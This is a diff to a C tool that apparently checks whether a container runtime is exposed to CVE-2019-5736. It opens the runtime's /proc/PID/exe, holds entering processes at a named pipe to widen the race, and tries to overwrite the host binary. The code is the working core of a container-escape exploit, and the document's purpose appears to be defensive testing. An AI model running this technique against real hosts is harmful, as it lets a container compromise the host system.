@@ -1,11 +1,13 @@
 /*
- * binary-overwrite NAME TARGET COUNT: changes the runtime's own program on the host (CVE-2019-5736).
+ * binary-overwrite NAME TARGET COUNT [PIPE]: changes the runtime's own program on the host (CVE-2019-5736).
  *
  * /proc/PID/exe of a process that enters is the runtime's file, wherever that lies. It cannot be written while it is
  * executed, but it can be kept open until it is not. docs/drofune/binary-overwrite.md.
  *
  * TARGET becomes a script whose interpreter is /proc/self/exe: whoever executes it in the container executes the runtime
  * once more, with no more capabilities than the container has. Only a file called NAME is written to, or one in memory.
+ *
+ * PIPE is a named pipe that a program reads as it starts, and so waits at; whoever was looked at is let go on.
  *
  * Says CONTAINED when the programs of COUNT processes that entered were reached, and writing to each was refused.
  */
@@ -39,19 +41,38 @@ static int is_wanted(const char *link, const char *name)
     return strncmp(text, "/memfd:", 7) == 0 || strcmp(text, "/") == 0 || (last && strcmp(last + 1, name) == 0);
 }
 
-/* A descriptor for the process's program, which outlives the process; -1 when it ended first. */
+/*
+ * A descriptor for the process's program, which outlives the process; -1 when it ended first. Without CAP_SYS_PTRACE the
+ * program is in reach only from when the process executes TARGET until it ends, so there is no time to lose.
+ */
 static int open_program(int pid, const char *name)
 {
-    char link[64];
+    char link[64], own[64];
     snprintf(link, sizeof link, "/proc/%d/exe", pid);
-    while (parent_of(pid) == 0) {
-        int fd = open(link, O_PATH | O_CLOEXEC);
-        if (fd >= 0 && is_wanted(link, name))
-            return fd;
+    while (parent_of(pid) == 0)
+        for (int tries = 0; tries < 100; tries++) {
+            int fd = open(link, O_PATH | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            /* By the descriptor: the process's own link may be gone already, or lead elsewhere. */
+            snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
+            if (is_wanted(own, name))
+                return fd;
+            close(fd);
+        }
+    return -1;
+}
+
+/* Lets the process go on that waits for somebody to write into the pipe, until it has ended. */
+static void let_go(int pid, const char *pipe)
+{
+    while (pipe && parent_of(pid) == 0) {
+        int fd = open(pipe, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
         if (fd >= 0)
             close(fd);
+        else if (errno != ENXIO)
+            broken(pipe);
     }
-    return -1;
 }
 
 /* A refusal is one of these; whatever else goes wrong says nothing about the container. */
@@ -82,9 +103,10 @@ static enum answer overwrite(int program)
     return answer;
 }
 
-static enum answer try_on(int pid, const char *name)
+static enum answer try_on(int pid, const char *name, const char *pipe)
 {
     int program = open_program(pid, name);
+    let_go(pid, pipe);
     if (program < 0) {
         fprintf(stderr, "process %d: its program is out of reach\n", pid);
         return OUT_OF_REACH;
@@ -97,13 +119,13 @@ static enum answer try_on(int pid, const char *name)
 
 int main(int argc, char **argv)
 {
-    int count = argc == 4 ? atoi(argv[3]) : 0;
+    int count = argc == 4 || argc == 5 ? atoi(argv[3]) : 0;
     if (count <= 0)
-        useless("usage: binary-overwrite NAME TARGET COUNT");
+        useless("usage: binary-overwrite NAME TARGET COUNT [PIPE]");
     write_script(argv[2]);
     say_ready();
     for (int tries = patience(count); count > 0 && tries > 0; tries--) {
-        enum answer answer = try_on(next_newcomer(), argv[1]);
+        enum answer answer = try_on(next_newcomer(), argv[1], argv[4]);
         if (answer == WRITTEN)
             return verdict(1);
         count -= answer == REFUSED;
